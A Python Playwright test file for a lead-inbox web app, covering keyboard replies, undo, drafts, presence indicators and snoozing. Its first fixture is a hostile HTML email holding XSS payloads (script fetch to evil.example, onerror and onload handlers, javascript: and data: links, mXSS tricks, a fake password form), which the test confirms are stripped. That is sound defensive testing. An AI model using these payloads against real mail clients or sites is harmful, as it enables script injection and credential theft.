"""One lead in Chromium: answered with keys, taken back, read as it was sent, and looked at by two."""

import re
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from typing import Any
from uuid import UUID

import pytest
from playwright.sync_api import Page, expect

from firstreply.channels import registry
from firstreply.channels.answer import Sent
from firstreply.channels.base import Channel
from tests.api.conftest import Office
from tests.browser.conftest import until

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.postgres]

HOSTILE = """\
<html><head><title>x</title><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/r">
<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css"; body{background:url(https://evil.example/c.png)}</style>
<script>window.top.pwned = 1; fetch("https://evil.example/d")</script></head>
<body background="https://evil.example/e.png" onload="top.pwned=1" style="background-image:url(https://evil.example/f.png)">
<p style="color:#036;background:url('https://evil.example/g.png')">Two hundred <b>chairs</b>, please.</p>
<img src="https://evil.example/h.png" alt="logo" onerror="top.pwned=1"><img src="cid:drawing" alt="drawing">
<img src="x" onerror=alert(1)><svg onload="top.pwned=1"><image href="https://evil.example/i.png"/></svg>
<math><mtext><img src=x onerror=alert(2)></mtext></math>
<iframe src="https://evil.example/j"></iframe><object data="https://evil.example/k"></object><embed src="https://evil.example/l">
<video src="https://evil.example/m" autoplay poster="https://evil.example/n.png"></video><audio src="https://evil.example/o"></audio>
<form action="https://evil.example/p"><input name="password"><button>Sign in</button></form>
<a href="javascript:top.pwned=1">one</a> <a href="https://shop.example/chairs?a=1&b=2">two</a>
<a href="data:text/html,<script>top.pwned=1</script>">three</a>
<a href="/leads" target="_top">four</a><noscript><p title="</noscript><img src=x onerror=top.pwned=1>"></noscript>
<table background="https://evil.example/q.png"><tr><td>cell</td></tr></table><input type="image" src="https://evil.example/r.png">
</body></html>
"""
LETTER = """\
From: Lena Lead <lena@example.org>
To: sales@example.com
Subject: =?utf-8?q?Chairs_=E2=80=AEsgnp?=
Date: {date}
Message-ID: <hostile-1@example.org>
MIME-Version: 1.0
Content-Type: multipart/related; boundary=b

--b
Content-Type: text/html; charset=utf-8

{page}
--b
Content-Type: image/png
Content-ID: <drawing>
Content-Disposition: inline; filename=drawing.png
Content-Transfer-Encoding: base64

iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==
--b
Content-Type: text/html; name="offer.html"
Content-Disposition: attachment; filename="offer.html"

<script>top.pwned=1</script>
--b--
"""


@pytest.fixture
def account(office: Office) -> Iterator[UUID]:
    """An account that carries letters by pigeon."""
    from firstreply.store.models import Source

    channel = Channel(
        kind="pigeon", send=lambda outgoing, setup: Sent(id=str(outgoing.id)), reaches=("email",)
    )
    registry.channels()["pigeon"] = channel
    with office.acting():
        own = Source.objects.create(organisation_id=office.id, kind="pigeon", name="Loft").pk
    yield own
    del registry.channels()["pigeon"]


def asks(office: Office, **fields: Any) -> UUID:
    from tests.journey.test_beside import asks as asked

    return asked(office, **fields)


def writes(office: Office, page: str = HOSTILE) -> UUID:
    """A letter comes; whose it is."""
    from firstreply.journey import flow
    from firstreply.store.models import Lead

    now = datetime.now(UTC)
    raw = LETTER.format(date=now.strftime("%a, %d %b %Y %H:%M:%S +0000"), page=page)
    headers = {"Authorization": f"Bearer {office.token}"}
    answer = office.client.generic(
        "POST", "/api/v1/messages", raw.encode(), content_type="message/rfc822", headers=headers
    )
    assert answer.status_code == 202, answer.content
    flow.arrived(office.id, now=now)
    with office.acting():
        return Lead.objects.order_by("-id").values_list("id", flat=True)[0]


def one(office: Office, model: str, **where: Any) -> Any:
    from firstreply.store import models

    with office.acting():
        return getattr(models, model).objects.filter(**where).order_by("-id").first()


def test_a_letter_as_it_was_sent_runs_nothing_and_asks_nobody(
    at_desk: Callable[..., Page], office: Office
) -> None:
    lead = writes(office)
    page = at_desk(f"/leads/{lead}")
    expect(page.locator(".entry.heard .body").first).to_contain_text("Two hundred")
    page.get_by_role("link", name="Show as sent, with files").click()
    frame = page.frame_locator("iframe.sent-page")
    expect(frame.locator("p").first).to_contain_text("Two hundred chairs, please.")
    inside = page.frames[-1]
    time.sleep(0.5)  # whatever it would fetch or run, it would have begun by now
    # Scripts are off in the frame, so it is asked from outside what became of its page.
    tags = frame.locator(
        "script, iframe, object, embed, video, audio, form, input, svg, base, link, meta[http-equiv]"
    )
    assert tags.count() == 0
    assert frame.locator("[onerror], [onload], [background]").count() == 0
    sources = [each.get_attribute("src") or "" for each in frame.locator("img").all()]
    assert [each[:14] for each in sources if each] == ["data:image/png"]
    links = [each.get_attribute("href") for each in frame.locator("a").all()]
    assert [bool(each and each.startswith("/away?to=")) for each in links] == [False, True, False, False]
    assert page.evaluate("window.pwned") is None
    assert inside.url.endswith("/page")
    with page.context.expect_page() as popup:
        frame.get_by_role("link", name="two").click()
    went = popup.value
    expect(went.locator(".wholeaddress")).to_have_text("https://shop.example/chairs?a=1&b=2")
    expect(went.get_by_role("link", name="Go there")).to_have_attribute("rel", "noreferrer noopener nofollow")
    with page.expect_download() as saved:
        page.get_by_role("link", name="offer.html").click()
    assert saved.value.suggested_filename == "offer.html"


def test_an_answer_with_two_keys_and_the_text_is_taken_back_into_the_composer(
    at_desk: Callable[..., Page], office: Office, account: UUID
) -> None:
    lead = asks(office)
    page = at_desk(f"/leads/{lead}")
    page.keyboard.press("r")
    page.keyboard.type("We have 200.")
    page.keyboard.press("Control+Enter")
    expect(page.locator(".entry.ours")).to_contain_text("We have 200.")
    expect(page.locator("#text")).to_have_value("")
    until(lambda: one(office, "Outgoing", lead_id=lead).state, "queued")
    page.locator("#toasts").get_by_role("button", name="Undo").click()
    expect(page.locator("#text")).to_have_value("We have 200.")
    until(lambda: one(office, "Outgoing", lead_id=lead).state, "cancelled")
    expect(page.locator(".entry.ours")).to_have_count(0)


def test_what_is_typed_is_kept_on_the_server_and_there_after_a_new_sign_in(
    at_desk: Callable[..., Page], office: Office, account: UUID
) -> None:
    lead = asks(office)
    page = at_desk(f"/leads/{lead}?reply=1")
    page.keyboard.type("We have two hun")
    until(lambda: getattr(one(office, "Draft", lead_id=lead), "body", ""), "We have two hun")
    again = at_desk(f"/leads/{lead}")
    expect(again.locator("#text")).to_have_value("We have two hun")


def test_a_note_a_step_and_a_field_by_keys_and_undo(
    at_desk: Callable[..., Page], office: Office, account: UUID
) -> None:
    lead = asks(office)
    page = at_desk(f"/leads/{lead}")
    page.keyboard.press("n")
    page.keyboard.type("Knows our CEO")
    page.keyboard.press("Control+Enter")
    expect(page.locator(".entry.fact", has_text="Knows our CEO")).to_have_count(1)
    page.locator("#step-title").fill("Send the offer")
    page.locator("#step-title").press("Enter")
    expect(page.locator(".todo .what")).to_have_text("Send the offer")
    page.locator("#side h1").click()
    page.keyboard.press("d")
    expect(page.locator(".todo .what")).to_have_count(0)
    expect(page.locator("#toasts")).to_contain_text("Done.")
    page.keyboard.press("u")
    expect(page.locator(".todo .what")).to_have_text("Send the offer")
    page.keyboard.press(".")
    page.locator("#f-name").fill("Lena Leader")
    page.locator("#f-name").press("Enter")
    expect(page.locator("#side h1")).to_have_text("Lena Leader")
    page.keyboard.press("c")
    page.locator("#call-note").fill("She wants twenty more")
    page.locator("#call").get_by_role("button", name="Write it down").click()
    expect(page.locator(".clockcard")).to_contain_text("Answered")


def test_two_who_look_at_one_lead_see_each_other_without_reloading(
    at_desk: Callable[..., Page], office: Office, account: UUID
) -> None:
    rita, _ = office.member("admin", "Rita Rep")
    lead = asks(office)
    mine, theirs = at_desk(f"/leads/{lead}"), at_desk(f"/leads/{lead}", member=rita)
    expect(mine.locator("#others")).to_contain_text("Rita Rep is looking at this too")
    theirs.locator("#text").press_sequentially("I take this one")
    expect(mine.locator("#others")).to_contain_text(re.compile("Rita Rep is writing an answer"))
    theirs.keyboard.press("Control+Enter")
    expect(mine.locator(".entry.ours")).to_contain_text("I take this one")


def test_the_list_leads_on_from_lead_to_lead(
    at_desk: Callable[..., Page], office: Office, account: UUID
) -> None:
    leads = [asks(office, name=name, email=f"{name}@example.org") for name in ("ann", "ben", "cem")]
    page = at_desk("/inbox")
    shown = page.locator("[data-row]").evaluate_all("rows => rows.map(row => row.dataset.lead)")
    assert sorted(shown) == sorted(map(str, leads))
    first, second, third = (f"/leads/{one}" for one in shown)
    page.keyboard.press("r")
    page.wait_for_url(f"**{first}?reply=1&next=1")
    page.keyboard.type("We have 200.")
    page.keyboard.press("Control+Enter")
    page.wait_for_url(f"**{second}?*")
    expect(page.locator("#text")).to_be_focused()
    expect(page.locator(".done")).to_contain_text("It is sent in 10 seconds.")
    page.keyboard.press("Escape")
    page.keyboard.press("j")
    page.wait_for_url(f"**{third}")
    page.keyboard.press("k")
    page.wait_for_url(f"**{second}")


def test_s_snoozes_where_it_is_read_w_wakes_it_and_u_takes_that_back(
    at_desk: Callable[..., Page], office: Office, account: UUID
) -> None:
    page = at_desk(f"/leads/{asks(office)}")
    page.keyboard.press("s")
    page.locator("#snooze").get_by_role("button", name="Next week").click()
    expect(page.locator("#side")).to_contain_text("Snoozed until")
    expect(page.locator("#snooze")).not_to_be_visible()
    page.keyboard.press("w")
    expect(page.locator("#side")).not_to_contain_text("Snoozed until")
    page.keyboard.press("u")
    expect(page.locator("#side")).to_contain_text("Snoozed until")


def test_quick_replies_are_for_the_account_that_is_chosen_and_a_gap_is_named_before_sending(
    at_desk: Callable[..., Page], office: Office, account: UUID
) -> None:
    from firstreply.store.models import Source

    with office.acting():
        other = Source.objects.create(organisation_id=office.id, kind="telegram", name="Bot").pk
    page = at_desk(f"/leads/{asks(office)}?reply=1", mind=("422",))
    before = page.locator("#quick").get_attribute("data-channel")
    page.locator("#source").select_option(str(other))
    assert [before, page.locator("#quick").get_attribute("data-channel")] == ["pigeon", "telegram"]
    page.locator("#source").select_option(str(account))
    page.locator("#text").fill("Dear {first_name}")
    page.locator("#text").press("Control+Enter")
    expect(page.locator("#composer [role=alert]")).to_contain_text("{first_name}")
    expect(page.locator("#text")).to_have_value("Dear {first_name}")
    page.get_by_role("button", name="Send all the same").click()
    expect(page.locator(".entry.ours")).to_contain_text("Dear {first_name}")
